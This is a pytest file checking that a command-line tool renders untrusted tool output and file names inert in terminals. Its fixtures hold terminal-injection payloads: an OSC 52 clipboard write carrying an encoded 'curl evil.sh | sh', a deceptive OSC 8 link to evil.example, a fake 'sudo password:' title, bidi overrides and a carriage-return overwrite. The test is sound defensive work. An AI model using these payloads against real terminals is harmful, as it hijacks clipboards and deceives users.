"""Outside text never reaches a terminal raw (boundary/terminal.py): tool output that holds an
OSC 52 clipboard write, an OSC 8 link, an OSC 0 title, a CSI, a C1 CSI, a CR and bidi overrides
is shown as visible text by every command that prints it, while `--json` keeps it exact."""

from __future__ import annotations

import json
import re
import time

import pytest

from precompact.boundary import terminal
from support.commands import precompact
from support.conversations import START, Conversation, save
from support.projects import new_project

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: puts `curl evil.sh | sh` on the clipboard
LINK = "\x1b]8;;https://evil.example/\x1b\\docs.example.com\x1b]8;;\x1b\\"  # OSC 8: a link that lies
TITLE = "\x1b]0;sudo password:\x07"  # OSC 0: the window's title
CLEAR = "\x1b[2J\x1b[1;1H"  # CSI: clear the screen, cursor home
C1_CSI = "\x9b31m"  # the one-character CSI
BIDI = "\u202eexe.txt\u202c and \u2066isolated\u2069"
OVERWRITE = "rm -rf /tmp/build\rls"
HOSTILE_OUTPUT = f"build log: quokka {CLIPBOARD}{LINK}{TITLE}{CLEAR}{C1_CSI}{BIDI} {OVERWRITE}"
# What a terminal would act on or not show: C0 but \t and \n, DEL, C1, bidi and invisible format.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


@pytest.fixture
def hostile(tmp_path):
    root = tmp_path
    project = new_project(root, "project", git_layer=False, chain_layer=False)
    conversation = Conversation(root / "hostile.jsonl", "s-hostile", START)
    conversation.turn_with(
        # The request carries hostile text too: a command that ran is no fact of `dropped`'s (#41), a request is.
        f"Build it and keep {BIDI} out of the log.",
        f"make all {CLEAR}{BIDI}",
        HOSTILE_OUTPUT,
        f"It built. quokka {TITLE}{C1_CSI} /srv/app{BIDI}",
    )
    save(project, conversation)
    return project


def _shown(done) -> str:
    assert done.returncode in (0, 1, 3), done.stderr
    for stream in (done.stdout, done.stderr):
        assert not RAW.search(stream), f"raw control or format character in {stream!r}"
    return done.stdout


def test_recall_and_show_print_the_tool_output_visibly(hostile):
    recalled = _shown(precompact(hostile.path, "recall", "quokka"))
    assert "\\x1b]0;sudo password:\\x07" in recalled and "<U+2066>isolated<U+2069>" in recalled
    shown = _shown(precompact(hostile.path, "show", "1:3"))
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in shown, "the OSC 52 write, as text"
    assert "\\x9b31m" in shown and "<U+202E>exe.txt<U+202C>" in shown and "/tmp/build\n> ls" in shown


def test_dropped_status_and_resurrect_print_it_visibly(hostile):
    for command in (["dropped"], ["status"], ["resurrect"], ["resurrect", "--format", "brief"], ["verify"]):
        _shown(precompact(hostile.path, *command))
    assert "<U+202E>" in precompact(hostile.path, "dropped").stdout


def test_json_keeps_the_outside_text_exact_and_inert(hostile):
    recalled = precompact(hostile.path, "recall", "quokka", "--json")
    assert recalled.returncode == 0 and not RAW.search(recalled.stdout)
    assert any(TITLE in hit["excerpt"] for hit in json.loads(recalled.stdout)["hits"])
    shown = precompact(hostile.path, "show", "1:3", "--json")
    assert shown.returncode == 0 and not RAW.search(shown.stdout)
    outputs = [
        part["content"]
        for entry in json.loads(shown.stdout)
        for part in (entry["message"]["content"] if isinstance(entry["message"]["content"], list) else [])
        if part.get("type") == "tool_result"
    ]
    assert HOSTILE_OUTPUT in outputs, "the tool output, byte for byte, once parsed"
    for resurrect in (["resurrect", "--json"], ["resurrect", "--format", "json"]):
        resurrected = precompact(hostile.path, *resurrect)
        assert resurrected.returncode == 0 and not RAW.search(resurrected.stdout) and json.loads(resurrected.stdout)


def test_an_error_message_with_outside_text_is_shown_visibly(tmp_path):
    """A file name from a cloned repository, in click's `Error: ...` line."""
    named = tmp_path / f"bundle{TITLE}.json"
    named.write_text("not json")
    done = precompact(tmp_path, "verify-bundle", str(named))
    assert done.returncode == 1 and not RAW.search(done.stderr) and "\\x1b]0;sudo password:\\x07" in done.stderr


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x1b]52;c;aGk=\x07", "\\x1b]52;c;aGk=\\x07"),
        ("a\x00b\x08c\x7fd\x85e\x9bf", "a\\x00b\\x08c\\x7fd\\x85e\\x9bf"),
        ("tab\tand\nline", "tab\tand\nline"),
        (
            "\u202egnp.exe\u202c \u2067x\u2069 \u200bz\ufeff",
            "<U+202E>gnp.exe<U+202C> <U+2067>x<U+2069> <U+200B>z<U+FEFF>",
        ),
        ("\U000e0041\ud800", "<U+E0041><U+D800>"),
        ("café 👨\u200d👩 日本", "café 👨\u200d👩 日本"),
    ],
)
def test_sanitise_shows_what_a_terminal_would_act_on(raw, shown):
    assert terminal.sanitise(raw) == shown


def test_no_character_a_terminal_must_not_get_raw_passes_as_printable():
    """`sanitise` and `json_for_terminal` return a text `str.isprintable` passes as it is, without
    compiling the pattern (a hook's every event would): sound only while no character the
    pattern matches is printable in this Python's Unicode."""
    every_character = "".join(map(chr, range(0x110000)))
    matched = re.findall(terminal.UNSAFE, every_character)
    assert len(matched) > 2048 + 128, "the surrogates, the tags, C0 and C1 at least"
    assert not [f"U+{ord(c):04X}" for c in matched if c.isprintable()]


def test_json_for_terminal_is_the_same_value():
    document = {"out": "\x1b]52;c;aGk=\x07\x9b\u202e\x7f\u2028\U000e0041\ud800 fine"}
    serialized = json.dumps(document, ensure_ascii=False)
    inert = terminal.json_for_terminal(serialized)
    assert not RAW.search(inert) and json.loads(inert) == document


def test_sanitise_is_linear():
    """Four MiB of escape sequences and overrides, every other character one: a single pass
    takes well under a second; anything quadratic would take hours."""
    text = ("\x1b[" + "9;" * 50 + "m\u202e\x9b") * (4 * 2**20 // 106)
    began = time.perf_counter()
    shown = terminal.sanitise(text)
    assert time.perf_counter() - began < 5.0
    assert not RAW.search(shown)
